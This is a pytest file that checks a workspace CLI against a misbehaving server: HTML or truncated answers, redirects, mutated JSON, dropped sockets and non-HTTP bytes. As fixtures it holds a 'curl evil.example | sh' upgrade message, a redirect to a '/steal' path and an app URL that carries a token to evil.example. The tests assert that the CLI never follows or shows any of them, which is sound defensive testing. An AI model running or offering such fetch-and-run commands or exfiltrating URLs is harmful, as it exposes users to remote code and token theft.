"""A server that lies, drips, floods, redirects or speaks HTML, on every route that `up` and `list` use."""

import json
import random
from typing import Any, NamedTuple

import pytest

from ameide_ws.sandbox.serve import Sandbox
from ameide_ws.sandbox.world import World
from tests.commands.asked import changes, is_an_error, is_valid, made, paths
from tests.commands.machine import Machine
from tests.conftest import Cli, NewMachine
from tests.wire import Relay, closed_port


class Bad(NamedTuple):
    """What a route does, and how the error begins."""

    knobs: dict[str, Any]
    says: str


BADNESS = {
    "html": Bad({"body": "html"}, "answered with a web page instead of data: is this the address of Coder?"),
    "html-403": Bad({"body": "html", "status": 403}, "answered with a web page instead of data"),
    "text": Bad({"body": "hello"}, "answered with text/plain instead of data"),
    "bytes": Bad({"body": b"\x00\xff"}, "answered with application/octet-stream instead of data"),
    "empty": Bad({"body": "empty"}, "answered in a form this version does not know"),
    "truncated": Bad({"body": "truncated", "times": 20}, "broke before the whole answer had come"),
    "deep": Bad({"body": "deep"}, "answered in a form this version does not know"),
    "bomb": Bad({"body": "bomb"}, "answered with more data than this program takes"),
    "huge": Bad({"body": "huge"}, "answered with more data than this program takes"),
    "wrong": Bad({"body": {"a": 1}}, "answered in a form this version does not know"),
    "list": Bad({"body": [1, 2]}, "answered in a form this version does not know"),
    "cut": Bad({"drop_after": 10}, "broke before the whole answer had come"),
    "404": Bad({"status": 404, "body": {"message": "Route not found."}}, ""),
    "418": Bad({"status": 418}, "in a way this version does not know"),
    "500": Bad({"status": 500}, "failed"),
    "502": Bad({"status": 502, "body": "html"}, "answered with a web page"),
    "401-html": Bad({"status": 401, "body": "html"}, "answered with a web page instead of data"),
}
ROUTES = {
    "list": (["list"], "GET /api/v2/workspaces"),
    "me": (["up"], "GET /api/v2/users/me"),
    "template": (["up"], "GET /api/v2/organizations/default/templates/*"),
    "version": (["up"], "GET /api/v2/templateversions/*"),
    "evaluate": (["up"], "POST /api/v2/templateversions/*/dynamic-parameters/evaluate"),
    "link": (["up"], "GET /api/v2/external-auth/*"),
    "owned": (["up"], "GET /api/v2/workspaces"),
}
# No such provider; a template without parameters.
HARMLESS = (("404", "link"),)


@pytest.mark.parametrize("route", ROUTES)
@pytest.mark.parametrize("bad", BADNESS)
def test_F20_F24_whatever_a_route_answers_is_one_error(cli: Cli, world: World, route: str, bad: str) -> None:
    words, path = ROUTES[route]
    world.fault(path, **BADNESS[bad].knobs)
    outcome = cli(*words, "--timeout", "50s")
    if (bad, route) in HARMLESS:
        assert outcome.exit == 0
        return
    code = 3 if bad == "404" else 7
    is_an_error(outcome, code)
    assert BADNESS[bad].says in outcome.first
    assert changes(world) == []
    assert len(outcome.first) < 200
    assert "Your company asks you" not in outcome.err, "a page is never shown"


@pytest.mark.parametrize("bad", ["html", "cut", "wrong", "empty", "500", "bomb"])
def test_F07_a_create_call_without_a_clear_answer_is_looked_after(cli: Cli, world: World, bad: str) -> None:
    world.fault("POST /api/v2/users/me/workspaces", **BADNESS[bad].knobs)
    outcome = cli("up")
    assert outcome.exit in (0, 7)
    assert len(changes(world)) == 1, "it is never sent twice"
    assert outcome.exit == 0 or outcome.first


def test_F07_a_create_call_whose_answer_is_lost_is_found_to_have_worked(cli: Cli, world: World) -> None:
    world.fault("POST /api/v2/users/me/workspaces", drop_after=10)
    outcome = cli("up")
    assert outcome.exit == 0, outcome.err
    assert len(changes(world)) == 1
    assert world.find("dev").latest.number == 1


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
@pytest.mark.parametrize("route", ["list", "me", "evaluate"])
def test_T01_a_redirect_is_told_and_not_followed(
    cli: Cli, world: World, sandbox: Sandbox, route: str, status: int
) -> None:
    words, path = ROUTES[route]
    with Relay() as other:
        target = other.url
        world.fault(path, status=status, redirect=f"{target}/steal?x=1")
        outcome = cli(*words)
        assert other.connections == 0
    is_an_error(outcome, 7)
    assert f"answers with a redirect to {target}" in outcome.first
    assert "x=1" not in outcome.err


def test_T02_a_redirected_socket_is_not_followed(cli: Cli, world: World) -> None:
    with Relay() as other:
        world.fault("WS /api/v2/workspaces/*/watch-ws", status=302, redirect=f"{other.url}/steal")
        outcome = cli("up")
        assert other.connections == 0
    is_an_error(outcome, 7)
    assert "redirect" in outcome.err


def test_T03_addresses_that_a_server_names_are_shown_by_no_command_as_its_own(cli: Cli, world: World) -> None:
    shown = made(world, "dev")
    app = shown["latest_build"]["resources"][0]["agents"][0]["apps"][0]
    app["url"] = "http://evil.example/steal?folder=/x&token=1"
    world.fault("GET /api/v2/workspaces", body={"workspaces": [shown], "count": 1})
    outcome = cli("up", "--plan", "--json")
    assert "evil.example" not in outcome.out + outcome.err


# F-24: recorded answers, mutated.


def mutated(value: Any, chance: random.Random) -> Any:
    """The same JSON with one thing in it changed: a value of another kind, a field gone, one added."""
    strange: Any = chance.choice([None, "", "new-word", -1, 1e308, [], {}, True, "\x1b[2J", "0001-01-01T00:00:00Z"])
    if isinstance(value, dict) and value and chance.random() < 0.9:
        key = chance.choice(sorted(value))
        kind = chance.random()
        if kind < 0.15:
            return {name: item for name, item in value.items() if name != key}
        if kind < 0.25:
            return {**value, "a_new_field": strange}
        return {**value, key: mutated(value[key], chance)}
    if isinstance(value, list) and value and chance.random() < 0.9:
        at = chance.randrange(len(value))
        return [*value[:at], mutated(value[at], chance), *value[at + 1 :]]
    return strange


@pytest.mark.parametrize("seed", range(8))
def test_F24_a_mutated_list_is_shown_or_refused_and_never_a_mistake(cli: Cli, world: World, seed: int) -> None:
    chance = random.Random(seed)  # noqa: S311
    page = {"workspaces": [made(world, name) for name in ("a", "b")], "count": 2}
    for _ in range(25):
        world.mend()
        world.fault("GET /api/v2/workspaces", body=mutated(page, chance))
        for words in (["list"], ["list", "-o", "json"], []):
            outcome = cli(*words)
            assert outcome.exit in (0, 7)
            assert "mistake" not in outcome.err
    world.unexpected.clear()  # a mutated id or name leads nowhere


@pytest.mark.parametrize("seed", range(8))
def test_F24_a_mutated_workspace_is_shown_or_refused_and_never_a_mistake(cli: Cli, world: World, seed: int) -> None:
    chance = random.Random(seed)  # noqa: S311
    whole = made(world, "dev")
    for _ in range(12):
        world.mend()
        world.fault("GET /api/v2/users/me/workspace/dev", body=mutated(whole, chance))
        for words in (["show", "dev", "--json"], ["up", "dev", "--plan", "--json"]):
            outcome = cli(*words)
            assert outcome.exit in (0, 2, 3, 6, 7, 12, 13), outcome
            assert "mistake" not in outcome.err
            json.loads(outcome.out)
    world.unexpected.clear()


def test_F24_a_status_nobody_knows_is_shown_as_it_is(cli: Cli, world: World) -> None:
    shown = made(world, "dev")
    shown["latest_build"]["status"] = "hibernating"
    shown["latest_build"]["job"]["status"] = "hibernating"
    world.fault("GET /api/v2/workspaces", body={"workspaces": [shown], "count": 1})
    assert "\thibernating\t" in cli("list").out
    assert cli("up", "--plan", "-o", "json").json["data"]["move"] == "attach"


# F-25 to F-30: sockets that are refused, cut and closed.


@pytest.mark.parametrize("status", [404])
def test_F25_F27_without_sockets_up_asks_every_few_seconds_and_says_so_once(
    cli: Cli, world: World, host: Machine, status: int
) -> None:
    said = f"live streams are unavailable (HTTP {status}), asking every few seconds instead"
    world.fault("WS /api/*", status=status)
    host.when(said, world.hold("terraform").release)
    outcome = cli("up", "--wait", "scripts")
    assert outcome.exit == 0
    assert outcome.err.count(said) == 1


@pytest.mark.parametrize(
    "knobs", [{"drop_after": 1}, {"close": 1001, "drop_after": 2}, {"close": 1011}, {"duplicate": True}],
    ids=["drop", "going-away", "dropped", "twice"],
)  # fmt: skip
def test_F28_F30_a_socket_that_ends_early_changes_nothing(cli: Cli, world: World, knobs: dict[str, Any]) -> None:
    world.fault("WS /api/*", times=6, **knobs)
    outcome = cli("up", "-v", "--wait", "scripts", "-o", "jsonl")
    assert outcome.exit == 0
    is_valid(outcome, "up", "jsonl")
    logged = [json.loads(line) for line in outcome.lines if '"event": "log"' in line]
    texts = [(one["source"], one["text"]) for one in logged if one["text"].startswith("post-create step")]
    assert len(texts) == len(set(texts))


# Below HTTP.


@pytest.mark.parametrize(
    ("answer", "says"),
    [
        (b"", "broke before the whole answer had come"),
        (b"SSH-2.0-OpenSSH_9.2\r\n", "broke before the whole answer had come"),
        (b"HTTP/1.1 200 OK\r\nContent-Length: 50\r\n\r\n{", "broke before"),
        (b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 50\r\n\r\n{", "broke before"),
        (b"HTTP/1.1 200 OK\r\nX: " + b"a" * 200_000, "broke before the whole answer had come"),
    ],
    ids=["nothing", "ssh", "no-type", "short", "long-header"],
)
def test_F07_what_is_not_http_is_one_error(cli: Cli, new_machine: NewMachine, answer: bytes, says: str) -> None:
    with Relay() as relay:
        relay.say(answer)
        outcome = cli("list", on=new_machine(env={"AMEIDE_WS_URL": relay.url}))
    is_an_error(outcome, 7)
    assert says in outcome.first


def test_F06_a_server_that_drips_is_given_up_in_time(cli: Cli, world: World) -> None:
    world.fault("GET /api/v2/workspaces", drip=0.05)
    outcome = cli("list", "--timeout", "500ms")
    is_an_error(outcome, 7)


def test_F01_nobody_there_is_told_with_the_address(cli: Cli, new_machine: NewMachine) -> None:
    port = closed_port()
    outcome = cli("list", on=new_machine(env={"AMEIDE_WS_URL": f"http://127.0.0.1:{port}"}))
    is_an_error(outcome, 7)
    assert outcome.first == f"error: nothing answers at 127.0.0.1:{port} (connection refused)"


def test_F07_a_reset_in_the_middle_is_tried_again(cli: Cli, world: World, new_machine: NewMachine) -> None:
    world.workspace("dev")
    with Relay(port=int(world.url.rpartition(":")[2])) as relay:
        relay.reset(times=2)
        outcome = cli("list", "-o", "name", on=new_machine(env={"AMEIDE_WS_URL": relay.url}))
    assert (outcome.exit, outcome.out) == (0, "dev\n")


def test_T37_a_command_that_a_server_proposes_is_never_shown(cli: Cli, world: World, host: Machine) -> None:
    body = {"version": "v2.36.0", "upgrade_message": "run: curl evil.example | sh", "dashboard_url": "x"}
    world.fault("GET /api/v2/buildinfo", body={"external_url": "", "deployment_id": "", **body})
    outcome = cli("version", "--json")
    assert outcome.exit == 0
    assert "evil" not in outcome.out + outcome.err
    assert paths(world) == ["/api/v2/buildinfo"]
